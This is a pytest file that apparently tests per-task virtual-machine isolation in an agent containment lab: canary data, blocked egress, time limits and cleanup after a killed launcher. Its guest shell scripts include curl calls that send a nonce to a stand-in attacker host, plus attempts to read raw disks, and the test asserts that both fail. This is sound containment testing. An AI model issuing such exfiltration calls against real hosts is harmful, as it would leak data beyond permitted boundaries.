"""A virtual machine per task: what one task left is nowhere for the next, the limit ends it, and a killed launcher leaves nothing.

Two whole boots, and one that is killed. The first task is behind the gateway of a deployed stack; its canary is looked for in the machine's
own disks as well, so that the search is known to find it.
"""

from __future__ import annotations

import contextlib
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import psutil
import pytest

from containment_lab.home import LabHome
from containment_lab.internet.address_plan import ATTACKER
from containment_lab.network.control import LabNetwork
from containment_lab.vm import agent, machine
from containment_lab.vm.errors import VmError
from containment_lab.vm.guest import Task
from containment_lab.vm.image import Image, load_image
from containment_lab.vm.network import list_leftovers
from tests.deployment.lab import REPOSITORY, Lab
from tests.deployment.world import arrived, world_of

pytestmark = [pytest.mark.long, pytest.mark.slow, pytest.mark.namespaces, pytest.mark.timeout(900)]

STACK = "coding-enforce"
CANARY = "canary-of-the-first-task"
CACHE = REPOSITORY / ".cache/vm"
PATIENCE = 30.0
FIRST = f"""
id -u; cat /proc/self/status | grep CapEff
head -c 32 /dev/urandom | sha256sum
before=$(date +%s); while now=$(date +%s); [ "$now" = "$before" ]; do :; done; echo "clock $now"
echo "permitted $(curl -sS -m 20 -o /dev/null -w '%{{http_code}}' https://github.com/)"
curl -sS -m 5 -o /dev/null "https://attacker.example/?{{nonce}}" 2>/dev/null && echo "the attacker answered"
curl -sSk -m 5 -o /dev/null "https://{{attacker}}/?{{nonce}}" 2>/dev/null && echo "the attacker answered"
echo {CANARY} >/home/agent/disk; sync
echo {CANARY} >/tmp/canary
echo {CANARY} >/output/canary
yes {CANARY} | head -c 4000000 >/tmp/part
while [ $# -lt 31 ]; do set -- "$@" /tmp/part; done
cat "$@" >/dev/shm/canary
cat /proc/swaps
exit 7
"""
SECOND = f"""
head -c 32 /dev/urandom | sha256sum
echo "found: $(grep -rl {CANARY[:-4]}[t]ask /home /tmp /dev/shm /output /run /input /root /mnt /var 2>/dev/null | head -3)"
head -c 4 /dev/vda /dev/vdb 2>/dev/null && echo "the disks are readable"
echo kept >/output/kept
trap '' TERM
while :; do sleep 1; done
"""


@pytest.fixture(scope="module")
def image() -> Image:
    if problem := machine.find_problem():
        pytest.skip(problem)
    try:
        return load_image(CACHE)
    except VmError as error:
        if os.environ.get("CI"):
            raise
        pytest.skip(str(error))


@pytest.fixture
def world(deployed: Lab) -> Iterator[LabNetwork]:
    found = world_of(deployed, STACK)
    try:
        yield found
    finally:
        found.take_down()


def has(descriptor: int, text: str) -> bool:
    with os.fdopen(os.dup(descriptor), "rb") as file:
        file.seek(0)
        return text.encode() in file.read()


def test_the_next_task_sees_no_byte_of_the_last_one(
    world: LabNetwork, image: Image, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    namespace = f"{world.send_command('status')['prefix']}-agent"
    said: list[tuple[float, bytes]] = []
    disks: list[bool] = []
    files = [agent.Member.make_file(path, (world.folder / "host" / name).read_bytes()) for path, name in agent._STAGED.items()]
    nonce = "vm" + os.urandom(8).hex()
    first = machine.run_task(
        Task(
            command=("sh", "-c", FIRST.replace("{nonce}", nonce).replace("{attacker}", str(ATTACKER))),
            files=tuple(files),
            limit=180,
            grace=2,
            temporary_mb=160,
        ),
        namespace=namespace,
        output=tmp_path / "first",
        show=lambda data: said.append((time.time(), data)),
        inspect=lambda disk, swap: disks.extend([has(disk, CANARY), has(swap, CANARY)]),
        image=image,
    )
    text = b"".join(data for _, data in said).decode()
    assert (first.code, first.expired, first.output) == (7, False, ("canary",)), text
    assert text.startswith("1000\r\nCapEff:\t0000000000000000"), text
    assert "permitted 200" in text, text
    assert "the attacker answered" not in text
    assert arrived(world, nonce) == set()
    assert disks == [True, True], "the canary was on the first machine's disk and swap, so a search finds it"
    begun = text.index("clock ")
    received = next(when for number, (when, _) in enumerate(said) if sum(len(data) for _, data in said[: number + 1]) > begun + 16)
    assert -1 < received - int(text[begun:].split()[1]) < 3, "whole seconds, and the time until the line has arrived"
    assert list_leftovers(namespace) == []

    said.clear()
    disks.clear()
    second = machine.run_task(
        Task(command=("sh", "-c", SECOND), limit=6, grace=2),
        namespace=None,
        output=tmp_path / "second",
        show=lambda data: said.append((time.time(), data)),
        inspect=lambda disk, swap: disks.extend([has(disk, CANARY), has(swap, CANARY)]),
        image=image,
    )
    after = b"".join(data for _, data in said).decode()
    assert (second.code, second.expired, second.output) == (machine.EXPIRED, True, ("kept",)), after
    assert "found: \r\n" in after, after
    assert "the disks are readable" not in after
    assert disks == [False, False]
    assert second.image == first.image
    randoms = [[word for word in one.split() if len(word) == 64] for one in (text, after)]
    assert len(randoms[0]) == len(randoms[1]) == 1
    assert randoms[0] != randoms[1]


def test_a_killed_launcher_leaves_no_process_tap_table_or_file(world: LabNetwork, image: Image, tmp_path: Path) -> None:
    namespace = f"{world.send_command('status')['prefix']}-agent"
    code = f"""
from pathlib import Path
from containment_lab.vm.guest import Task
from containment_lab.vm.image import load_image
from containment_lab.vm.machine import run_task
image = load_image(Path({str(CACHE)!r}))
run_task(Task(command=("sleep", "600"), limit=600, grace=1), namespace={namespace!r}, image=image)
"""
    launcher = subprocess.Popen([sys.executable, "-c", code], cwd=REPOSITORY, env={**os.environ, "TMPDIR": str(tmp_path)})
    try:
        until = time.monotonic() + 120
        while not (children := find_machines(launcher.pid)):
            assert launcher.poll() is None, "the launcher ended before the machine began"
            assert time.monotonic() < until, "no machine began"
            time.sleep(0.1)
        assert list_leftovers(namespace) != [], "tap and table are there while the machine runs"
    finally:
        os.kill(launcher.pid, signal.SIGKILL)
        launcher.wait()
    until = time.monotonic() + PATIENCE
    while (left := [one for one in children if one.is_running() and one.status() != psutil.STATUS_ZOMBIE]) or list_leftovers(namespace):
        assert time.monotonic() < until, (left, list_leftovers(namespace))
        time.sleep(0.1)
    assert [*tmp_path.iterdir()] == []


def find_machines(launcher: int) -> list[psutil.Process]:
    with contextlib.suppress(psutil.NoSuchProcess):
        return [one for one in psutil.Process(launcher).children(recursive=True) if one.name().startswith("qemu-system")]
    return []


def test_the_command_runs_a_task_in_a_machine(deployed: Lab) -> None:
    """Only its refusals: a boot of its own would show nothing more."""
    done = subprocess.run(
        [sys.executable, "-m", "containment", "lab", "run", "--stack", STACK, "--input", "/tmp", "--", "true"],
        capture_output=True,
        text=True,
        env=deployed.environment,
        cwd=REPOSITORY,
    )
    assert (done.returncode, "--input: is an option of --vm" in done.stderr) == (2, True)
    assert LabHome(deployed.home).root.is_dir()
